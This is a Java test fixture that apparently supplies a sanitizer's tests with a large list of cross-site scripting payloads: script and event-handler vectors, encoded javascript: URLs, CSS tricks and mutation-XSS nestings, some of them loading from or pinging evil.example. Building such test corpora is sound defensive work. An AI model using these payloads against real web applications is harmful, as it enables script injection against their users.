package org.postroom.parse;

import java.util.List;
import java.util.stream.Stream;

/** Ways to get script past a sanitizer, after the filter evasion lists and the known mutation attacks. */
final class HostileHtml {
    private static final String RUN = "alert(1)";

    private HostileHtml() {}

    static Stream<String> vectors() {
        return Stream.of(simple(), attributes(), addresses(), styles(), mutations())
                .flatMap(List::stream);
    }

    private static List<String> simple() {
        return List.of(
                "<script>" + RUN + "</script>",
                "<script/x>" + RUN + "</script\n>",
                "<<script>" + RUN + ";//<</script>",
                "<script src=//evil.example/x.js",
                "<scr\0ipt>" + RUN + "</scr\0ipt>",
                "<SCRIPT>" + RUN + "</SCRIPT >",
                "</title><script>" + RUN + "</script>",
                "\"><script>" + RUN + "</script>",
                "<!--<script>" + RUN + "</script>-->",
                "<!--[if gte IE 4]><script>" + RUN + "</script><![endif]-->",
                "<!-- --!><script>" + RUN + "</script>-->",
                "<!--><script>" + RUN + "</script>-->",
                "<![CDATA[><script>" + RUN + "</script>]]>",
                "<?php ><script>" + RUN + "</script>?>",
                "<% <script>" + RUN + "</script> %>",
                "<xml id=x><i><b>&lt;img src=1 onerror=" + RUN + "&gt;</b></i></xml>",
                "<frameset><frame src=\"javascript:" + RUN + "\"></frameset>",
                "<isindex type=image src=1 onerror=" + RUN + ">",
                "<marquee onstart=" + RUN + ">x</marquee>",
                "<keygen autofocus onfocus=" + RUN + ">",
                "<dialog open onclose=" + RUN + ">x</dialog>",
                "<portal src=\"javascript:" + RUN + "\">",
                "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
                "<audio src=x onerror=" + RUN + "></audio>",
                "<link rel=import href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
                "<base href=\"javascript:/a/-" + RUN + "///////\"><a href=../x>x</a>");
    }

    private static List<String> attributes() {
        return List.of(
                "<img src=x onerror=" + RUN + ">",
                "<img/src=x/onerror=" + RUN + ">",
                "<img src='x'onerror=" + RUN + ">",
                "<img src=\"x` `<script>" + RUN + "</script>\"` `>",
                "<img \"\"\"><script>" + RUN + "</script>\"\\>",
                "<img src=x:x onerror\u000b=" + RUN + ">",
                "<img src=x \0onerror=" + RUN + ">",
                "<img alt='x' alt=\"' onerror=" + RUN + "\" src=cid:1>",
                "<img src=cid:1 title=\"a\nonerror=" + RUN + "\">",
                "<body onload=" + RUN + " background=\"javascript:" + RUN + "\">",
                "<p title=\"&quot;&gt;&lt;img src=x onerror=" + RUN + "&gt;\">x</p>",
                "<p title='\"><img src=x onerror=" + RUN + ">'>x</p>",
                "<p =\"\" title=x onclick=" + RUN + ">x</p>",
                "<p/onclick=" + RUN + "/>x",
                "<a href=https://x.example/\"onmouseover=\"" + RUN + "\">x</a>",
                "<font face=\"x' onx='" + RUN + "\">x</font>",
                "<table background='javascript:" + RUN + "'><td background=javascript:" + RUN + ">x",
                "<p data-link-host=x data-fold=quote data-x=y aria-label=z role=alert itemprop=q>x</p>",
                "<a id=x name=location href=tel:1 ping=//evil.example>x</a><img name=body src=cid:1>");
    }

    private static List<String> addresses() {
        return List.of(
                "<a href=javascript:" + RUN + ">x</a>",
                "<a href=\" javascript:" + RUN + "\">x</a>",
                "<a href=\"\u0001javascript:" + RUN + "\">x</a>",
                "<a href=\"java&Tab;script:" + RUN + "\">x</a>",
                "<a href=\"java&NewLine;script&colon;" + RUN + "\">x</a>",
                "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099ript:" + RUN + "\">x</a>",
                "<a href=\"jav\0ascript:" + RUN + "\">x</a>",
                "<a href=\"feed:javascript:" + RUN + "\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
                "<a href=\"https:javascript:" + RUN + "\">x</a>",
                "<a href=\"//evil.example\">x</a>",
                "<a xlink:href=\"javascript:" + RUN + "\">x</a>",
                "<img src=\"data:image/svg+xml,<svg onload=" + RUN + ">\">",
                "<img src=\"data:image/png;base64,x\"onerror=" + RUN + ">",
                "<img src=\"data:image/png;base64,AA==#<script>\">",
                "<img srcset='//evil.example/a 1x' src='jav\tascript:" + RUN + "'>",
                "<img lowsrc='javascript:" + RUN + "' dynsrc='javascript:" + RUN + "'>");
    }

    private static List<String> styles() {
        return List.of(
                "<p style=\"xss:expr/*x*/ession(" + RUN + ")\">x</p>",
                "<p style=\"width: expression(" + RUN + ");\">x</p>",
                "<p style=\"background:u\\72 l(//evil.example)\">x</p>",
                "<p style=\"background:url(&#1;javascript:" + RUN + ")\">x</p>",
                "<p style=\"-moz-binding:url(//evil.example/x.xml#y)\">x</p>",
                "<p style='font-family:\"</p><script>" + RUN + "</script>\"'>x</p>",
                "<p style=\"color:red;}</style><script>" + RUN + "</script>\">x</p>",
                "<style>p{color:red</style><img src=x onerror=" + RUN + "><p>x",
                "<style>p{font-family:'\"><img src=x onerror=" + RUN + ">'}</style><p>x",
                "<style>p{color:red;x:\"}</style><p>\"}x",
                "<style>.a{position:fixed}.a{background:url(//evil.example)}</style><p class=a>x",
                "<style>@\\69mport '//evil.example';p{a:b}</style><p>x",
                "<style><!--</style><script>" + RUN + "</script>--></style>");
    }

    private static List<String> mutations() {
        return List.of(
                "<noscript><p title=\"</noscript><img src=x onerror=" + RUN + ">\"></noscript>",
                "<svg></p><style><a id=\"</style><img src=1 onerror=" + RUN + ">\">",
                "<svg><p><style><g title=\"</style><img src onerror=" + RUN + ">\">",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=" + RUN
                        + "&gt;\">",
                "<math><mtext><table><mglyph><style><math><img src onerror=" + RUN + ">",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=" + RUN + ">",
                "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=" + RUN + "></style>",
                "<svg><annotation-xml><foreignObject><style><!--</style><p id=\"--><img src=x onerror=" + RUN + ">\">",
                "<svg><desc><noscript></desc></svg><img src=x onerror=" + RUN + ">",
                "<svg><title><style></title><img src=x onerror=" + RUN + "></style>",
                "<svg><![CDATA[</svg><img src=x onerror=" + RUN + ">]]>",
                "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"></svg>",
                "<svg><a xlink:href=\"javascript:" + RUN + "\"><text y=20>x</text></a></svg>",
                "<svg><animate attributeName=href values=javascript:" + RUN + " /><a id=x>x</a>",
                "<template><p></template><img src=x onerror=" + RUN + "></template>",
                "<select><template><style><!--</style><img src=x onerror=" + RUN + ">-->",
                "<select><iframe></select><img src=x onerror=" + RUN + "></iframe>",
                "<textarea><p title=\"</textarea><img src=x onerror=" + RUN + ">\">",
                "<xmp><p title=\"</xmp><img src=x onerror=" + RUN + ">\">",
                "<noembed><p title=\"</noembed><img src=x onerror=" + RUN + ">\">",
                "<iframe><p title=\"</iframe><img src=x onerror=" + RUN + ">\">",
                "<table><caption><svg><style><!--</caption><img src=x onerror=" + RUN + ">",
                "<a><table><a href=x><b><p></a><img src=x onerror=" + RUN + ">",
                "<listing>&lt;img src=x onerror=" + RUN + "&gt;</listing>",
                "<p id=\"</p><plaintext>\"><plaintext><img src=x onerror=" + RUN + ">",
                "<d><p></d><p title=\"</d><img src=x onerror=" + RUN + ">\">");
    }
}
